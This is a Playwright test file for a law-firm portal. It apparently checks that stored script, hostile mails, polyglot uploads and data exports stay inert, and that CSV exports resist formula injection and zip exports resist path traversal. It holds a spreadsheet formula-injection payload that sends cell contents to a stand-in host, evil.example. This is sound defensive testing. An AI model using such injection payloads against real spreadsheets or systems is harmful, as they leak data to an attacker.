import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, normalize } from 'node:path'
import { pathToFileURL } from 'node:url'
import { type Browser, expect, type Page, test } from '@playwright/test'
import { exportedLists } from '../features/exports/exports.schema.ts'
import { demoFirm } from '../firm.config.ts'
import { figure, isLong } from '../test/assurance/figure.ts'
import { polyglots, wouldRun } from '../test/assurance/polyglots.ts'
import { cellsOf, isFormula } from '../test/spreadsheet.ts'
import { unzipped } from '../test/zip.ts'
import {
  type HostileRun,
  hostileRun,
  type Person,
  password,
  read,
  script,
  upload,
  write,
} from './fixtures/hostile.ts'
import { openInEveryWay, openPreviews } from './hostile-files.ts'
import { hostileMails } from './hostile-mails.ts'
import { enterEverywhere } from './hostile-seed.ts'
import { walk } from './hostile-walk.ts'

// Enters script into every text field, then opens every screen of every role, every mail, every file and every export.
// The script must be shown as text, and nothing may run or violate the CSP. Prints, and every
// kind of file for every role, are checked by `npm run assurance` only.

let run: HostileRun

test.beforeAll(async () => {
  run = await hostileRun()
})
test.afterAll(async () => {
  await run?.stop()
})

test.describe('entered text is shown as text on every screen', () => {
  let shareLink = ''
  test.beforeAll(async ({ browser }) => {
    const pages = await everybody(browser)
    await enterEverywhere(handsOf(pages), script, 'script')
    shareLink = (await read(pages.client.request, '/client/cases')).items[0].shareLink
  })
  const startsOf = (): Record<Person | 'anonymous', [string, ...string[]]> => ({
    anonymous: ['/', '/auth', '/case-search', '/team'],
    client: ['/dashboard', `/case/${shareLink}`, '/cases'],
    lawyer: ['/lawyer-portal'],
    admin: ['/admin'],
  })
  for (const who of ['anonymous', 'client', 'lawyer', 'admin'] as const)
    test(`to ${who}`, async ({ browser }) => {
      // An administrator has some fifty screens. In the long form each is printed as well.
      test.setTimeout(isLong ? 1_200_000 : 600_000)
      const page = await run.watched(browser, who === 'anonymous' ? undefined : who)
      const { opened, showing } = await walk(run, page, who, startsOf()[who])
      figure(
        `stored script, ${who}`,
        `${opened} views, ${showing} showing it as words${isLong ? ', each printed as well' : ''}; ${run.wrong.length} ran or were refused`,
        '0; 0',
      )
      expect(run.wrong).toEqual([])
      // Otherwise nothing was checked.
      expect(showing).toBeGreaterThan(3)
    })
})

test('no mail runs or loads anything, even without a CSP', async ({ browser }) => {
  const page = await run.watched(browser)
  await page.setContent(wouldRun)
  await expect.poll(() => run.wrong.length).toBeGreaterThan(0)
  run.wrong.length = 0

  const loaded: string[] = []
  page.on('request', (request) => loaded.push(request.url()))
  const mails = hostileMails()
  for (const [name, { html, subject }] of mails) {
    await page.setContent(html)
    await run.harmless(page, `mail ${name}`)
    expect(await page.title()).toBe(subject.replace(/\s+/g, ' '))
  }
  expect(loaded).toEqual([])
  // Mails that were sent, as the demo mailbox shows them.
  const email = (name: string) => `${name}-mailed@demo.example`
  await write(page.request, '/sign-up', { name: script, email: email('sign-up'), password })
  const message = { name: script, email: email('contact'), message: `In a mail: ${script}`, openedAt: 1 }
  await write(page.request, '/contact', message)
  const inMailbox = page.locator('li a')
  await expect(async () => {
    await page.goto('/dev/mailbox')
    for (const to of [email('sign-up'), email('contact'), demoFirm.emails.contact])
      await expect(page.locator('li').filter({ hasText: to }).first()).toBeVisible({ timeout: 500 })
  }).toPass()
  const written = await inMailbox.evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''))
  for (const address of written)
    for (const form of ['', '/html']) {
      expect((await page.goto(address + form))?.status()).toBe(200)
      await run.harmless(page, `${address}${form}`)
    }
  figure(
    'mails',
    `${mails.length} kinds and ${written.length} written ones; ${run.wrong.length} ran or loaded`,
    '0; 0',
  )
  expect(run.wrong).toEqual([])
})

test('a polyglot file is served only as the type of its ending', async ({ browser }) => {
  // The test loads it as a script, a style and a worker, which the browser refuses.
  const expected = /MIME type|Refused to apply style/i
  const roles = ['client', 'lawyer', 'admin'] as const
  const readers = isLong ? roles : (['client'] as const)
  const lawyer = await run.watched(browser, 'lawyer')
  const client = await run.watched(browser, 'client')
  const { clientId } = await read(client.request, '/session')
  const { id: caseId } = await write(lawyer.request, '/lawyer/cases', {
    title: 'Twofold',
    description: 'Files that are two things at once.',
    clientName: 'Naomi',
    practiceArea: 'Family Law',
    clientId,
  })
  const ids: string[] = []
  const all = Object.entries(polyglots).filter((_, at) => isLong || at % 3 === 0)
  for (const [what, [name, bytes]] of all) {
    const fileId = await upload(lawyer.request, name, bytes, 'document')
    await write(lawyer.request, '/lawyer/documents', { title: `Twofold: ${what}`, caseId, fileId })
    ids.push(fileId)
    if (!isLong || name.endsWith('.gif')) continue
    const own = await upload(client.request, name, bytes)
    await write(client.request, '/client/documents', { caseId, fileId: own })
    ids.push(own)
  }
  let opened = 0
  for (const who of readers) {
    const page = await run.watched(browser, who, expected)
    for (const id of ids) {
      expect((await page.request.get(`/api/files/${id}`)).status(), who).toBe(200)
      await openInEveryWay(run, page, who, id)
      opened += 1
    }
    await openPreviews(run, page, who)
  }
  const anonymous = await run.watched(browser)
  for (const id of ids) expect((await anonymous.request.get(`/api/files/${id}?inline=1`)).status()).toBe(404)
  figure(
    'files that are two things',
    `${ids.length} files, ${opened} opened as page, frame, script, module, style and worker; ${run.wrong.length} ran`,
    '0; 0',
  )
  expect(run.wrong).toEqual([])
})

test('exports have no formulas, no paths out of their folder, and nothing that runs', async ({ browser }) => {
  const pages = await everybody(browser)
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"x");+1+1'
  await enterEverywhere(handsOf(pages), formula, 'formula')
  let cells = 0
  for (const list of exportedLists) {
    const answer = await pages.admin.request.post(`/api/exports/${list}`)
    expect(answer.status(), list).toBe(200)
    const csv = (await answer.text()).replace(/^\ufeff/, '')
    for (const separator of [',', ';', '\t'])
      for (const cell of cellsOf(csv, separator)) {
        cells += 1
        if (isFormula(cell)) run.wrong.push(`${list} by ${separator}: ${cell}`)
      }
    if (list === 'leads') expect(csv).toContain("'=HYPERLINK")
  }
  const answer = await pages.client.request.post('/api/data-export')
  expect(answer.status()).toBe(200)
  const entries = [...unzipped(await answer.body())]
  const folder = mkdtempSync(join(tmpdir(), 'portico-data-export-'))
  try {
    for (const [path, bytes] of entries) {
      expect(normalize(path)).toBe(path)
      expect(path).toMatch(/^[^/.][^\p{Cc}]*\.(txt|json|pdf|docx?|jpe?g|png|gif)$/u)
      expect(join(folder, path).startsWith(`${folder}/`)).toBe(true)
      mkdirSync(dirname(join(folder, path)), { recursive: true })
      writeFileSync(join(folder, path), bytes)
      await pages.anonymous.goto(pathToFileURL(join(folder, path)).href).catch(() => {})
      await run.harmless(pages.anonymous, path)
    }
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
  figure(
    'what can be taken along',
    `${exportedLists.length} tables with ${cells} cells by three separators, ${entries.length} files of own data; ${run.wrong.length} formulas or ran`,
    '0; 0',
  )
  expect(entries.length).toBeGreaterThan(5)
  expect(run.wrong).toEqual([])
})

type Everybody = Record<Person | 'anonymous', Page>

async function everybody(browser: Browser): Promise<Everybody> {
  return {
    admin: await run.watched(browser, 'admin'),
    lawyer: await run.watched(browser, 'lawyer'),
    client: await run.watched(browser, 'client'),
    anonymous: await run.watched(browser),
  }
}

const handsOf = ({ admin, lawyer, client, anonymous }: Everybody) => ({
  admin: admin.request,
  lawyer: lawyer.request,
  client: client.request,
  anonymous: anonymous.request,
})
